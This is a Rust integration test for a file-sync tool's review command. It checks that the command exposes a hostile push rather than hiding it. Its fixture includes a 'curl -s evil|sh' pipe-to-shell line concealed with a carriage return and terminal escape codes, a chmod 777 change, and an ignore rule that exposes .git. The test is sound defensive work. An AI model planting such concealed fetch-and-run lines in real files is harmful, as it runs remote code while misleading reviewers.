//! End-to-end: a review on E that R cannot fool. One real push from R carries what a hostile
//! or careless R could send: a line hidden behind a carriage return and an escape sequence, a
//! mode-only change (`chmod 777`), and a new `.zyncignore` that un-ignores `.git`. Every
//! `zync-apply` command shows each of them as what it is, and the control file waits for an
//! explicit yes.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use crate::common::*;
use serde_json::Value;

/// Control characters in `out` other than newline and tab, after removing the colour
/// sequences zync writes itself (`ESC [ n m`): what a terminal would act on.
fn raw_controls(out: &str) -> Vec<String> {
    let mut rest = out;
    let mut found = Vec::new();
    while let Some(c) = rest.chars().next() {
        if rest.starts_with("\x1b[") {
            let after = &rest[2..];
            let digits = after
                .find(|c: char| !c.is_ascii_digit())
                .unwrap_or(after.len());
            if digits > 0 && after[digits..].starts_with('m') {
                rest = &after[digits + 1..];
                continue;
            }
        }
        if c.is_control() && c != '\n' && c != '\t' {
            let at = out.len() - rest.len();
            found.push(format!("{c:?} at byte {at}"));
        }
        rest = &rest[c.len_utf8()..];
    }
    found
}

fn mode_of(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o7777
}

#[test]
fn a_hostile_push_is_shown_as_it_is_and_its_control_file_waits_for_a_yes() {
    let tmp = tempfile::tempdir().unwrap();
    let (e, r) = (tmp.path().join("e"), tmp.path().join("r"));
    write(&e.join("notes.txt"), "make\n");
    write(&e.join("run.sh"), "echo hi\n");
    std::fs::set_permissions(e.join("run.sh"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let state = tmp.path().join("state");
    std::fs::create_dir_all(&state).unwrap();
    let daemon = Daemon::start(&state, &[("code", &e)]);
    daemon.wait_scanned();
    let client = ClientSpec::new(&tmp.path().join("client"), &daemon, &[("code", &r)]);
    client.once_ok(&daemon.url());
    assert_same_tree(&e, &r, &[]);

    // R: a line that reads `# tidy` on a terminal, a mode-only change, a new ignore file.
    write(
        &r.join("notes.txt"),
        "make\ncurl -s evil|sh\r\x1b[2K# tidy\n",
    );
    std::fs::set_permissions(r.join("run.sh"), std::fs::Permissions::from_mode(0o777)).unwrap();
    write(&r.join(".zyncignore"), "!.git\n");
    let summary = client.push_json(&daemon.url());
    let id = summary["session_id"]
        .as_str()
        .unwrap_or_else(|| panic!("no session: {summary}"))
        .to_string();
    let db = state.join("sync.db");

    for args in [
        vec!["list"],
        vec!["list", "--all"],
        vec!["status"],
        vec!["show", &id],
        vec!["show", &id, "--diff", "--color", "never"],
        vec!["show", &id, "--diff", "--color", "always"],
        vec!["show", &id, "--json"],
        vec!["list", "--json"],
        vec!["status", "--json"],
    ] {
        let out = stdout(&output_within_deadline(zync_apply(&db, &args)));
        let raw = raw_controls(&out);
        assert!(
            raw.is_empty(),
            "zync-apply {args:?} printed {raw:?}:\n{out:?}"
        );
    }
    let shown = zync_apply_ok(&db, &["show", &id, "--diff", "--color", "never"]);
    assert!(
        shown.contains("+curl -s evil|sh^M^[[2K# tidy"),
        "the hidden command must be visible:\n{shown}"
    );
    let run_line = shown
        .lines()
        .find(|l| l.contains("code/run.sh"))
        .unwrap_or_else(|| panic!("run.sh not shown:\n{shown}"));
    assert!(run_line.contains("(mode only)"), "{shown}");
    assert!(!shown.contains("no differences"), "{shown}");
    assert!(shown.contains("CONTROL FILE"), "{shown}");
    let list = zync_apply_ok(&db, &["list"]);
    assert!(list.contains("[1 control file]"), "{list}");

    let json = zync_apply_json(&db, &["show", &id, "--json"]);
    let file = |path: &str| -> Value {
        json["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["path"] == path)
            .unwrap_or_else(|| panic!("{path} not in {json:#}"))
            .clone()
    };
    let run = file("run.sh");
    assert_eq!(
        (
            &run["mode"],
            &run["e_mode"],
            &run["mode_change"],
            &run["content_change"]
        ),
        (
            &Value::from("0777"),
            &Value::from("0644"),
            &Value::from(true),
            &Value::from(false)
        ),
        "{run:#}"
    );
    assert!(file(".zyncignore")["control"].is_string(), "{json:#}");
    assert_eq!(json["session"]["control_files"], 1, "{json:#}");

    // Without --force the ignore file stays staged (exit 3); the rest is applied.
    let mut apply = zync_apply(&db, &["apply", &id, "--non-interactive"]);
    with_umask(&mut apply, 0o022);
    let out = output_within_deadline(apply);
    assert_eq!(
        out.status.code(),
        Some(3),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    assert!(raw_controls(&stdout(&out)).is_empty(), "{:?}", stdout(&out));
    assert!(raw_controls(&stderr(&out)).is_empty(), "{:?}", stderr(&out));
    assert!(
        stdout(&out).contains("control file, left staged: code/.zyncignore"),
        "{}",
        stdout(&out)
    );
    assert!(!e.join(".zyncignore").exists(), "applied without a yes");
    assert_eq!(
        mode_of(&e.join("run.sh")),
        0o755,
        "R's 0777 under E's umask 022"
    );
    assert_eq!(
        std::fs::read(e.join("notes.txt")).unwrap(),
        b"make\ncurl -s evil|sh\r\x1b[2K# tidy\n",
        "applied as it is"
    );
    // --force is the yes.
    let mut apply = zync_apply(&db, &["apply", &id, "--non-interactive", "--force"]);
    with_umask(&mut apply, 0o022);
    run_ok(apply);
    assert_eq!(std::fs::read(e.join(".zyncignore")).unwrap(), b"!.git\n");
}
